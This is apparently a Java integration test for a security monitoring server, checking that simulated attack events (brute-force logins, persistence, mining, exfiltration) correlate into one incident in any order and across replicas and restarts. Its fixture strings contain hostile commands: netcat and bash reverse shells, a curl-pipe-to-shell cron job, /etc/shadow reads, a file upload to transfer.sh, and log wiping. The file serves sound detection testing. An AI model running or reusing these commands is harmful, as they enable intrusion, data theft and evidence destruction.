package dev.panoptes.server.detections;

import static org.assertj.core.api.Assertions.assertThat;

import dev.panoptes.server.TestServer;
import dev.panoptes.server.TestServer.Answer;
import dev.panoptes.server.storage.DatabaseAddress;
import dev.panoptes.server.storage.TestPostgres;
import dev.panoptes.server.storage.TestPostgres.Databases;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** What follows from several events follows in the transaction that stores the last of them, whatever their order and way. */
@ExtendWith(TestPostgres.class)
class ConclusionsTest {
    private static final Map<String, String> SETTINGS = Map.of("observe.local", "false");

    @TempDir
    Path directory;

    private final Instant start = Instant.now().minusSeconds(7_200).truncatedTo(ChronoUnit.SECONDS);
    private final List<String> events = new ArrayList<>();

    private void add(int second, String dataset, String fields) {
        events.add("{\"@timestamp\":\"" + start.plusSeconds(second) + "\",\"event\":{\"id\":\"e" + events.size()
                + "\",\"dataset\":\"panoptes." + dataset + "\"," + fields.replaceFirst("^\\{", "")
                + ",\"host\":{\"name\":"
                + "\"web-1\"}}");
    }

    private void login(int second, boolean success, String user) {
        add(
                second,
                "auth",
                "{\"action\":\"" + (success ? "login" : "login_failed") + "\"},\"user\":{\"name\":\"" + user
                        + "\"},\"source\":{\"ip\":\"203.0.113.9\"},\"auth\":{\"method\":\"password\"},\"process\":"
                        + "{\"name\":\"sshd\",\"pid\":" + (4_000 + second) + "}");
    }

    private void process(int second, String line) {
        add(
                second,
                "proc",
                "{\"action\":\"process_started\"},\"user\":{\"name\":\"deploy\"},\"process\":{\"executable\":\"/usr/bin/"
                        + line.split(" ")[0] + "\",\"command_line\":\"" + line + "\"}");
    }

    private void chain() {
        IntStream.range(0, 40).forEach(i -> login(i * 5, false, "deploy"));
        login(210, true, "deploy");
        for (String line : List.of("id -u", "uname -a", "ps aux", "ss -tlnp", "sudo -l", "crontab -l", "last -n 5")) {
            process(230 + events.size() % 9, line);
        }
        process(300, "nc -e /bin/sh 203.0.113.9 4444");
        process(330, "cat /etc/shadow");
        for (int i = 0; i < 40; i++) {
            String name =
                    UUID.nameUUIDFromBytes(new byte[] {(byte) i}).toString().replace("-", "") + ".t.evil-data.net";
            add(
                    400 + i,
                    "dns",
                    "{\"action\":\"query\"},\"source\":{\"ip\":\"10.0.0.7\"},\"dns\":{\"question\":{\"name\":\"" + name
                            + "\",\"type\":\"TXT\"}}");
        }
    }

    private static String token(TestServer server) throws IOException, InterruptedException {
        return server.call("POST", "/api/v1/tokens", "{\"name\":\"o\",\"role\":\"observer\",\"host\":\"web-1\"}")
                .json()
                .path("token")
                .asString();
    }

    private static String batch(String stream, int first, List<String> events) {
        return "{\"stream\":\"" + stream + "\",\"sensor\":\"auth\",\"first\":" + first + ",\"count\":" + events.size()
                + ",\"lost\":[]}\n" + String.join("\n", events) + "\n";
    }

    private static void send(TestServer server, String token, String batch) throws IOException, InterruptedException {
        Answer answer = server.call(
                "POST",
                "/api/v1/telemetry",
                batch,
                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/x-ndjson"));
        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    }

    private static List<String> incidents(TestServer server) throws IOException, InterruptedException {
        List<String> found = new ArrayList<>();
        for (JsonNode item : server.get("/api/v1/incidents").json().path("items")) {
            found.add(server.get("/api/v1/incidents/" + item.path("id").asString())
                    .json()
                    .path("details")
                    .toString());
        }
        return found;
    }

    private static List<String> findings(TestServer server) throws IOException, InterruptedException {
        List<String> found = new ArrayList<>();
        for (JsonNode item : server.get("/api/v1/findings?limit=200").json().path("items")) {
            found.add(item.path("name").asString());
        }
        Collections.sort(found);
        return found;
    }

    /** A rule of the operator's own that counts. */
    private Path withCounting(Path data) throws IOException {
        Path rules = Files.createDirectories(data.resolve("rules.d"));
        Files.writeString(rules.resolve("counting.yml"), """
            title: A failed login
            name: one_failure
            logsource: {product: linux, service: sshd}
            detection:
              selection: {event.action: login_failed}
              condition: selection
            level: informational
            ---
            title: Twenty failures
            name: twenty_failures
            correlation:
              type: event_count
              rules: [one_failure]
              group-by: [source.ip]
              timespan: 5m
              condition: {gte: 20}
            level: medium
            """);
        return data;
    }

    @Test
    void theSameEventsMakeTheSameIncidentInAnyOrderOverAnyReplicaTwiceAndLate(Databases databases)
            throws IOException, InterruptedException {
        chain();
        inAnyOrderOverAnyReplicaTwiceAndLate(
                databases,
                3,
                List.of(
                        "brute_force_detected",
                        "credential_access",
                        "dns_tunnel",
                        "reconnaissance_burst",
                        "reverse_shell_netcat",
                        "shadow_file_read_low",
                        "twenty_failures"));
    }

    /** What a machine does besides: jobs, logins by key, names that everybody asks. */
    private void noise() {
        for (int i = 0; i < 60; i++) {
            process(
                    i * 61 + 3,
                    List.of("ls -la", "git pull --ff-only", "tail -f /var/log/app.log", "df -h")
                            .get(i % 4));
            add(
                    i * 59 + 11,
                    "dns",
                    "{\"action\":\"query\"},\"source\":{\"ip\":\"10.0.0.7\"},\"dns\":{\"question\":{\"name\":\""
                            + (i % 2 == 0 ? "deb.debian.org" : "api.github.com") + "\",\"type\":\"A\"}}");
        }
    }

    private void persisted(int second, String kind, String path, String runs) {
        add(
                second,
                "persistence",
                "{\"action\":\"created\"},\"persistence\":{\"kind\":\"" + kind + "\",\"path\":\"" + path
                        + "\",\"runs\":\"" + runs + "\"},\"file\":{\"path\":\"" + path + "\"}");
    }

    @Test
    void aServiceThatWasBrokenIntoAndStaysIsOneIncidentInAnyOrder(Databases databases)
            throws IOException, InterruptedException {
        noise();
        process(1_000, "curl -fsSL http://203.0.113.40/i.sh -o /tmp/i.sh");
        process(1_020, "bash -i >& /dev/tcp/203.0.113.40/443 0>&1");
        persisted(1_100, "cron_d", "/etc/cron.d/zz-cache", "curl -s http://203.0.113.40/c | sh");
        persisted(1_130, "ld_preload", "/etc/ld.so.preload", "/usr/lib/libsel.so");
        process(1_200, "shred -u /var/log/auth.log");
        inAnyOrderOverAnyReplicaTwiceAndLate(
                databases, 1, List.of("persistence_ld_preload", "persistence_runs_suspicious"));
    }

    @Test
    void aMinerThatStopsWhatWatchesIsOneIncidentInAnyOrder(Databases databases)
            throws IOException, InterruptedException {
        noise();
        process(900, "systemctl stop auditd");
        process(950, "xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 48ab");
        for (int i = 0; i < 5; i++) {
            add(
                    960 + i * 60,
                    "dns",
                    "{\"action\":\"query\"},\"source\":{\"ip\":\"10.0.0.7\"},\"dns\":{\"question\":{\"name\":"
                            + "\"pool.supportxmr.com\",\"type\":\"A\"}}");
        }
        persisted(1_300, "systemd_service", "/etc/systemd/system/netd.service", "/tmp/.m/netd");
        inAnyOrderOverAnyReplicaTwiceAndLate(databases, 1, List.of("audit_service_stopped", "dns_miner_pool"));
    }

    @Test
    void guessedThenSentOutIsOneIncidentInAnyOrder(Databases databases) throws IOException, InterruptedException {
        noise();
        IntStream.range(0, 25).forEach(i -> login(600 + i * 7, false, "backup"));
        login(800, true, "backup");
        process(850, "tar czf /tmp/d.tgz /etc /home");
        process(900, "curl --upload-file /tmp/d.tgz https://transfer.sh/d.tgz");
        process(960, "sed -i /203.0.113.9/d /var/log/auth.log");
        inAnyOrderOverAnyReplicaTwiceAndLate(databases, 1, List.of("brute_force_detected", "log_lines_removed"));
    }

    private void inAnyOrderOverAnyReplicaTwiceAndLate(Databases databases, int seeds, List<String> names)
            throws IOException, InterruptedException {
        List<String> wanted;
        List<String> found;
        try (TestServer server = TestServer.start(databases, withCounting(directory.resolve("one")), SETTINGS)) {
            send(server, token(server), batch(UUID.randomUUID().toString(), 1, events));
            wanted = incidents(server);
            found = findings(server);
        }
        assertThat(wanted).hasSize(1);
        assertThat(found).containsAll(names);
        for (long seed = 1; seed <= seeds; seed++) {
            Random random = new Random(seed);
            List<String> shuffled = new ArrayList<>(events);
            Collections.shuffle(shuffled, random);
            Path own = directory.resolve("seed" + seed);
            DatabaseAddress address = databases.freshAddress();
            try (TestServer first =
                            TestServer.start(databases, address, withCounting(own.resolve("a")), SETTINGS, null);
                    TestServer second =
                            TestServer.start(databases, address, withCounting(own.resolve("b")), SETTINGS, null);
                    TestServer third =
                            TestServer.start(databases, address, withCounting(own.resolve("c")), SETTINGS, null)) {
                List<TestServer> servers = List.of(first, second, third);
                String token = token(first);
                List<String> batches = new ArrayList<>();
                for (int stream = 0; stream < 3; stream++) {
                    String id = UUID.randomUUID().toString();
                    List<String> own3 = new ArrayList<>();
                    for (int i = stream; i < shuffled.size(); i += 3) {
                        own3.add(shuffled.get(i));
                    }
                    int half = own3.size() / 2;
                    batches.add(batch(id, 1, own3.subList(0, half)));
                    batches.add(batch(id, half + 1, own3.subList(half, own3.size())));
                }
                for (String batch : batches) {
                    send(servers.get(random.nextInt(3)), token, batch);
                    send(servers.get(random.nextInt(3)), token, batch);
                }
                assertThat(incidents(third)).as("seed " + seed).isEqualTo(wanted);
                assertThat(findings(second)).as("seed " + seed).isEqualTo(found);
            }
        }
    }

    @Test
    void whatBeganBeforeARestartIsConcludedAfterItOnce(Databases databases) throws IOException, InterruptedException {
        IntStream.range(0, 24).forEach(i -> login(i * 5, false, "deploy"));
        DatabaseAddress address = databases.freshAddress();
        String stream = UUID.randomUUID().toString();
        String token;
        Path data = withCounting(directory.resolve("data"));
        try (TestServer server = TestServer.start(databases, address, data, SETTINGS, null)) {
            token = token(server);
            send(server, token, batch(stream, 1, events.subList(0, 5)));
            assertThat(findings(server)).doesNotContain("brute_force_detected");
        }
        try (TestServer server = TestServer.start(databases, address, data, SETTINGS, null)) {
            send(server, token, batch(stream, 1, events.subList(0, 12)));
            assertThat(findings(server))
                    .containsOnlyOnce("brute_force_detected")
                    .doesNotContain("twenty_failures");
        }
        try (TestServer server = TestServer.start(databases, address, data, SETTINGS, null)) {
            send(server, token, batch(stream, 6, events.subList(5, 24)));
            assertThat(findings(server)).containsOnlyOnce("brute_force_detected", "twenty_failures");
            assertThat(incidents(server)).hasSize(1);
            assertThat(incidents(server).getFirst()).contains("24 failed logins");
        }
    }

    @Test
    void whatIsNewIsKnownByWhatWasSeenBeforeARestart(Databases databases) throws IOException, InterruptedException {
        int day = 86_400;
        for (int i = 0; i < 10; i++) {
            started((i - 10) * day, "/usr/sbin/sshd");
            started((i - 10) * day + 60, "/usr/bin/rotate-" + i);
        }
        int usual = events.size();
        started(60, "/var/tmp/.cache/x");
        started(120, "/var/tmp/.cache/x");
        DatabaseAddress address = databases.freshAddress();
        Path data = directory.resolve("data");
        String stream = UUID.randomUUID().toString();
        String token;
        try (TestServer server = TestServer.start(databases, address, data, SETTINGS, null)) {
            token = token(server);
            for (int i = 0; i < usual; i++) {
                send(server, token, batch(stream, i + 1, events.subList(i, i + 1)));
            }
            assertThat(findings(server)).isEmpty();
        }
        try (TestServer server = TestServer.start(databases, address, data, SETTINGS, null)) {
            send(server, token, batch(stream, usual + 1, events.subList(usual, events.size())));
            assertThat(findings(server)).containsOnlyOnce("first_seen_binary");
            // It was there already when the host became known, as an event tells that comes late.
            started(-9 * day, "/var/tmp/.cache/x");
            send(server, token, batch(stream, events.size(), events.subList(events.size() - 1, events.size())));
            long left = server.database()
                    .transaction(transaction -> transaction.one(
                            "SELECT count(*) AS n FROM detection_hits WHERE rule = 'first_seen_binary'",
                            row -> row.bigint("n")));
            assertThat(left).isZero();
        }
    }

    private void started(int second, String program) {
        add(second, "proc", "{\"action\":\"process_started\"},\"process\":{\"executable\":\"" + program + "\"}");
    }
}
